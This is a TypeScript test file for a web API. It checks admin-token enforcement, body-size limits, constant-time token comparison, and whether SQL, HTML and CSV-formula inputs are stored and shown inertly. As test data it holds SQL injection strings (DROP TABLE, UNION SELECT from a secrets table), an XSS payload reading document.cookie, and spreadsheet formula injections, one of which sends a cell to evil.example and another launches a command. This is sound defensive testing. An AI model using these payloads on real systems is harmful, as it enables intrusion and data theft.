// Bad input beyond the fuzz (fuzz.test.ts): every admin route, enumerated from /api/openapi.json, refuses a
// missing, wrong or malformed token and changes nothing; oversized bodies are refused on every route that takes
// one; SQL, CSV-formula and HTML payloads are stored byte for byte and come out inert (JSON, the CSV export with
// its formula guard, the dashboard page); and the token comparison takes the same path whatever the wrong token.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Request, Response } from 'express';
import request from 'supertest';
import { requireAdmin } from '../../src/http/adminAuth';
import type { RunningApp } from '../../src/app/server';
import { PROJECT_ROOT } from '../support/appProcess';
import { startTestApp } from '../support/testApp';
import { createTestDatabase, type TestDatabase } from '../support/testDb';

const ADMIN_TOKEN = 'bad-input-admin-token-0123456789';
/** Non-GET routes open to anyone by design: subscribing (double opt-in) and the one-click unsubscribe of RFC 8058, and the buttons of the confirm and unsubscribe pages. */
// open by design: subscribing and asking for a new confirmation email (rate-limited), and what a signed link of an email does
const PUBLIC_WRITES = [
  'POST /api/subscriptions',
  'POST /api/subscriptions/confirm',
  'POST /api/subscriptions/unsubscribe',
  'PATCH /api/subscriptions/manage',
  'POST /api/subscriptions/manage/unsubscribe',
  'POST /api/subscriptions/resend',
];

let db: TestDatabase;
let app: RunningApp;
let writesOff: RunningApp;

beforeAll(async () => {
  db = await createTestDatabase();
  app = await startTestApp(db, { ADMIN_TOKEN, SUBSCRIBE_RATE_LIMIT: '1000' });
  writesOff = await startTestApp(db, {}); // no ADMIN_TOKEN: write routes are disabled
});
afterAll(async () => {
  await writesOff?.stop();
  await app?.stop();
  await db?.drop();
});

interface Operation {
  method: string;
  /** OpenAPI form, /api/events/{slug} */
  template: string;
  admin: boolean;
  hasBody: boolean;
}

async function operations(): Promise<Operation[]> {
  const spec = (await request(app.url).get('/api/openapi.json')).body;
  const ops: Operation[] = [];
  for (const [template, byMethod] of Object.entries(
    spec.paths as Record<string, Record<string, { security?: unknown[]; requestBody?: unknown }>>,
  )) {
    for (const [method, op] of Object.entries(byMethod))
      ops.push({ method: method.toUpperCase(), template, admin: (op.security ?? []).length > 0, hasBody: op.requestBody !== undefined });
  }
  return ops;
}

/** Rows of every table a write route can touch, as one digest per table. */
async function snapshot(): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const table of [
    'instruments',
    'daily_bars',
    'events',
    'news_items',
    'event_news',
    'price_moves',
    'move_event_links',
    'subscriptions',
    'outbox_emails',
  ]) {
    const { rows } = await db.pool.query(
      `SELECT count(*)::text || ':' || coalesce(md5(string_agg(t::text, '|' ORDER BY t::text)), '') AS d FROM ${table} t`,
    );
    out[table] = rows[0].d;
  }
  return out;
}

describe('admin routes', () => {
  let ops: Operation[];
  let target: Record<string, string>;
  /** a body that would do something if the token were not checked */
  const bodies: Record<string, unknown> = {
    'POST /api/events': { title: 'Made-up event that must not be stored', date: '2025-02-03', dateOnly: true },
    'PATCH /api/events/{slug}': { title: 'Renamed by an intruder' },
    'POST /api/events/{slug}/news': { url: 'https://news.example.test/intruder', title: 'Intruder news', date: '2025-02-03' },
    'POST /api/instruments': { symbol: 'ZZINTR', backfill: false },
    'POST /api/moves/{id}/links': { eventSlug: 'deepseek-v3-release' },
  };
  /** a real target for each path parameter: {id} is a move on the moves routes and a subscription on its own */
  const urlPath = (op: Operation) =>
    (op.template.startsWith('/api/subscriptions/') ? op.template.replace('{id}', target.subscriptionId) : op.template).replace(
      /\{(\w+)\}/g,
      (_m, name: string) => encodeURIComponent(target[name] ?? 'x'),
    ) + (op.template === '/api/events/{slug}/news' && op.method === 'DELETE' ? `?url=${encodeURIComponent(target.newsUrl)}` : '');
  const send = (op: Operation, url: string, headers: Record<string, string>) => {
    let req = request(url)[op.method.toLowerCase() as 'get'](urlPath(op));
    for (const [k, v] of Object.entries(headers)) req = req.set(k, v);
    const body = bodies[`${op.method} ${op.template}`];
    return op.hasBody ? req.send((body ?? {}) as object) : req;
  };

  beforeAll(async () => {
    ops = await operations();
    const move = (await request(app.url).get('/api/moves?symbol=NVDA')).body.moves[0];
    await request(app.url)
      .post('/api/subscriptions')
      .send({ email: 'someone@example.com', symbols: ['NVDA'] })
      .expect(202);
    const { rows } = await db.pool.query(`SELECT id FROM subscriptions LIMIT 1`);
    const event = (await request(app.url).get('/api/events/deepseek-r1-release')).body.event;
    target = {
      slug: 'deepseek-r1-release',
      eventSlug: 'deepseek-r1-release',
      id: String(move.id),
      subscriptionId: String(rows[0].id),
      symbol: 'NVDA',
      newsUrl: event.news[0].url,
    };
  });

  test('every route that is not a read is an admin route, or one of the public writes', async () => {
    const writes = ops.filter((o) => o.method !== 'GET' && o.method !== 'HEAD');
    expect(writes.length).toBeGreaterThanOrEqual(10);
    for (const w of writes)
      expect([`${w.method} ${w.template}`, w.admin || PUBLIC_WRITES.includes(`${w.method} ${w.template}`)]).toEqual([
        `${w.method} ${w.template}`,
        true,
      ]);
    expect(ops.filter((o) => o.admin).map((o) => `${o.method} ${o.template}`)).toEqual(
      expect.arrayContaining([
        'POST /api/events',
        'PATCH /api/events/{slug}',
        'DELETE /api/events/{slug}',
        'POST /api/instruments',
        'DELETE /api/subscriptions/{id}',
        'GET /api/subscriptions',
      ]),
    );
  });

  test('each refuses a missing, wrong or malformed token with 401, and changes nothing', async () => {
    const same = ADMIN_TOKEN.replace(/.$/, (c) => (c === 'x' ? 'y' : 'x')); // same length, last character differs
    const refused: Array<{ name: string; headers: Record<string, string> }> = [
      { name: 'no Authorization', headers: {} },
      { name: 'wrong token, same length', headers: { authorization: `Bearer ${same}` } },
      { name: 'wrong token, shorter', headers: { authorization: 'Bearer short' } },
      { name: 'the token with more after it', headers: { authorization: `Bearer ${ADMIN_TOKEN}x` } },
      { name: 'a prefix of the token', headers: { authorization: `Bearer ${ADMIN_TOKEN.slice(0, -1)}` } },
      { name: 'the token in other case', headers: { authorization: `Bearer ${ADMIN_TOKEN.toUpperCase()}` } },
      {
        name: 'Basic with the token as password',
        headers: { authorization: `Basic ${Buffer.from(`admin:${ADMIN_TOKEN}`).toString('base64')}` },
      },
      { name: 'Bearer and nothing', headers: { authorization: 'Bearer ' } },
      { name: 'the token in another header', headers: { 'x-admin-token': ADMIN_TOKEN, cookie: `token=${ADMIN_TOKEN}` } },
    ];
    const before = await snapshot();
    const admin = ops.filter((o) => o.admin);
    for (const op of admin) {
      for (const r of refused) {
        const res = await send(op, app.url, r.headers);
        expect([`${op.method} ${op.template}`, r.name, res.status, res.body.error?.code, res.headers['www-authenticate']]).toEqual([
          `${op.method} ${op.template}`,
          r.name,
          401,
          'unauthorized',
          'Bearer',
        ]);
      }
      // a server without ADMIN_TOKEN refuses them all, the right token or not
      for (const headers of [{}, { authorization: `Bearer ${ADMIN_TOKEN}` }] as Record<string, string>[]) {
        const res = await send(op, writesOff.url, headers);
        expect([`${op.method} ${op.template}`, res.status, res.body.error?.code]).toEqual([
          `${op.method} ${op.template}`,
          403,
          'writes_disabled',
        ]);
      }
    }
    expect(await snapshot()).toEqual(before);

    // and the right token gets through every one of them (whatever the route then makes of the request)
    for (const op of admin) {
      const res = await send(op, app.url, { authorization: `Bearer ${ADMIN_TOKEN}` });
      // (POST /api/instruments answers 503 here: this server's Yahoo is unreachable on purpose)
      expect([`${op.method} ${op.template}`, [401, 403, 500].includes(res.status)]).toEqual([`${op.method} ${op.template}`, false]);
    }
  });

  test('an oversized body is refused with 413 on every route that takes a body, and nothing is stored', async () => {
    const before = await snapshot();
    const withBody = ops.filter((o) => o.hasBody);
    expect(withBody.length).toBeGreaterThanOrEqual(5);
    const big = {
      title: 'x'.repeat(150_000),
      email: 'big@example.com',
      symbol: 'NVDA',
      url: 'https://news.example.test/big',
      eventSlug: 'deepseek-r1-release',
    };
    for (const op of withBody) {
      for (const headers of [{ authorization: `Bearer ${ADMIN_TOKEN}` }, {}] as Record<string, string>[]) {
        let req = request(app.url)[op.method.toLowerCase() as 'post'](urlPath(op));
        for (const [k, v] of Object.entries(headers)) req = req.set(k, v);
        const res = await req.send(big);
        expect([`${op.method} ${op.template}`, res.status, res.body.error?.code]).toEqual([
          `${op.method} ${op.template}`,
          413,
          'payload_too_large',
        ]);
      }
    }
    expect(await snapshot()).toEqual(before);
  });
});

describe('payloads stored and shown inertly', () => {
  const SQL = `Robert'); DROP TABLE events; -- "quoted" \\ back\\slash; SELECT pg_sleep(10);`;
  const HTML = `<img src=x onerror="alert('xss')"><script>alert(document.cookie)</script> &amp; </textarea>`;
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)'];
  const SLUG = 'inert-payloads';
  const auth = { authorization: `Bearer ${ADMIN_TOKEN}` };
  const news = [
    { url: 'https://news.example.test/inert/html', title: HTML, publisher: FORMULAS[1] },
    { url: 'https://news.example.test/inert/sql?q=%27%3B%20DROP%20TABLE%20news_items%3B--', title: SQL, publisher: FORMULAS[3] },
    { url: 'https://news.example.test/inert/minus', title: FORMULAS[2], publisher: HTML },
  ];

  let eventsBefore: number;
  const eventCount = async () => (await db.pool.query(`SELECT count(*)::int AS n FROM events`)).rows[0].n as number;

  beforeAll(async () => {
    eventsBefore = await eventCount();
    const created = await request(app.url)
      .post('/api/events')
      .set(auth)
      .send({ slug: SLUG, title: FORMULAS[0], description: `${SQL}\n${HTML}`, kind: 'other', date: '2025-02-03', dateOnly: true });
    expect(created.status).toBe(201);
    for (const n of news)
      expect(
        (
          await request(app.url)
            .post(`/api/events/${SLUG}/news`)
            .set(auth)
            .send({ ...n, date: '2025-02-03', role: 'coverage' })
        ).status,
      ).toBe(201);
  });

  test('the API gives back every payload byte for byte, as JSON that a browser will not sniff as HTML', async () => {
    const res = await request(app.url).get(`/api/events/${SLUG}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.body.event).toMatchObject({ slug: SLUG, title: FORMULAS[0], description: `${SQL}\n${HTML}` });
    const got = res.body.event.news.map((n: { url: string; title: string; publisher: string }) => ({
      url: n.url,
      title: n.title,
      publisher: n.publisher,
    }));
    expect(got).toEqual(expect.arrayContaining(news));
    expect(got).toHaveLength(news.length);
    // stored as given: no escaping on the way in, no statement run
    const { rows } = await db.pool.query(`SELECT title, description FROM events WHERE slug = $1`, [SLUG]);
    expect(rows).toEqual([{ title: FORMULAS[0], description: `${SQL}\n${HTML}` }]);
    expect(await eventCount()).toBe(eventsBefore + 1); // this one, and no table dropped
  });

  test('the CSV export keeps the file intact and neutralises every formula cell', async () => {
    const res = await request(app.url)
      .get('/api/export/events.csv')
      .buffer(true)
      .parse((r, cb) => {
        let text = '';
        r.setEncoding('utf8');
        r.on('data', (d: string) => (text += d));
        r.on('end', () => cb(null, text));
      });
    expect(res.status).toBe(200);
    const rows: string[][] = parseCsv(res.body as string, { relax_column_count: false });
    const header = rows[0];
    const col = (name: string) => header.indexOf(name);
    const mine = rows.filter((r) => r[col('eventSlug')] === SLUG);
    expect(mine).toHaveLength(news.length);
    for (const r of mine) {
      expect(r[col('eventTitle')]).toBe(`'${FORMULAS[0]}`);
      expect(r[col('eventDescription')]).toBe(`${SQL}\n${HTML}`); // text that starts with a letter is left alone
    }
    const byUrl = new Map(mine.map((r) => [r[col('newsUrl')], r]));
    expect(byUrl.get(news[0].url)![col('newsTitle')]).toBe(HTML);
    expect(byUrl.get(news[0].url)![col('newsPublisher')]).toBe(`'${FORMULAS[1]}`);
    expect(byUrl.get(news[1].url)![col('newsTitle')]).toBe(SQL);
    expect(byUrl.get(news[1].url)![col('newsPublisher')]).toBe(`'${FORMULAS[3]}`);
    expect(byUrl.get(news[2].url)![col('newsTitle')]).toBe(`'${FORMULAS[2]}`); // text, even though it reads as a sum
    // no cell of the whole file starts with a formula character
    for (const r of rows.slice(1))
      for (const cell of r) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && Number.isNaN(Number(cell)))).toBe(false);
  });

  test('the dashboard never puts data into HTML: the page is static, its script sets text, and no inline script may run', async () => {
    const page = await request(app.url).get(`/events/${SLUG}`);
    expect(page.status).toBe(200);
    expect(page.text).not.toContain('onerror');
    expect(page.text).not.toContain(FORMULAS[0]);
    const csp = String(page.headers['content-security-policy']);
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).not.toContain('unsafe-inline');
    // the dashboard's code has no HTML sink: data reaches the DOM through textContent and text nodes only
    // (every TypeScript file of web/src, subfolders included)
    const dir = path.join(PROJECT_ROOT, 'web', 'src');
    const files = fs.readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.ts'));
    expect(files.length).toBeGreaterThan(10);
    const sinks = files.flatMap((f) =>
      fs
        .readFileSync(path.join(dir, f), 'utf8')
        .split('\n')
        .flatMap((line, i) =>
          /\.(innerHTML|outerHTML)\s*=|insertAdjacentHTML\(|document\.write\(|\beval\(|new Function\(/.test(line)
            ? [`${f}:${i + 1}: ${line.trim()}`]
            : [],
        ),
    );
    expect(sinks).toEqual([]);
  });

  test('SQL in query strings and paths is a 4xx and touches nothing', async () => {
    const before = await snapshot();
    const probes = [
      `/api/moves?symbol=${encodeURIComponent("NVDA' OR '1'='1")}`,
      `/api/instruments/${encodeURIComponent("NVDA'; DROP TABLE daily_bars;--")}/bars`,
      `/api/instruments/NVDA/bars?from=${encodeURIComponent("2025-01-01' OR 1=1--")}`,
      `/api/events/${encodeURIComponent("x' UNION SELECT * FROM app_secrets--")}`,
      `/api/export/bars.csv?symbols=${encodeURIComponent('NVDA,6857.T);DELETE FROM instruments;--')}`,
      `/api/alerts?status=${encodeURIComponent("sent' OR 'a'='a")}`,
    ];
    for (const p of probes) {
      const res = await request(app.url).get(p);
      expect([p, res.status >= 400 && res.status < 500, typeof res.body.error?.message]).toEqual([p, true, 'string']);
    }
    expect(await snapshot()).toEqual(before);
  });
});

describe('the token comparison', () => {
  test('a wrong token of any length takes the same path: two SHA-256 digests compared in constant time', () => {
    const createHash = jest.spyOn(crypto, 'createHash');
    const timingSafeEqual = jest.spyOn(crypto, 'timingSafeEqual');
    const check = requireAdmin(ADMIN_TOKEN);
    const trace = (given: string) => {
      createHash.mockClear();
      timingSafeEqual.mockClear();
      let outcome: unknown = 'not called';
      const req = { headers: { authorization: `Bearer ${given}` } } as Request;
      const res = { setHeader: () => res } as unknown as Response;
      check(req, res, (err?: unknown) => (outcome = err === undefined ? 'allowed' : (err as { status: number }).status));
      return {
        outcome,
        hashes: createHash.mock.calls.map((c) => c[0]),
        compared: timingSafeEqual.mock.calls.map((c) => [(c[0] as Buffer).length, (c[1] as Buffer).length]),
      };
    };
    try {
      const wrong = [
        ADMIN_TOKEN.replace(/^./, 'X'),
        ADMIN_TOKEN.replace(/.$/, 'X'),
        'a',
        ADMIN_TOKEN.slice(0, 20),
        `${ADMIN_TOKEN}${'z'.repeat(5000)}`,
      ];
      const traces = wrong.map(trace);
      for (const t of traces) expect(t).toEqual({ outcome: 401, hashes: ['sha256', 'sha256'], compared: [[32, 32]] });
      // the right token goes the same way, and only the outcome differs
      expect(trace(ADMIN_TOKEN)).toEqual({ outcome: 'allowed', hashes: ['sha256', 'sha256'], compared: [[32, 32]] });
    } finally {
      createHash.mockRestore();
      timingSafeEqual.mockRestore();
    }
  });
});
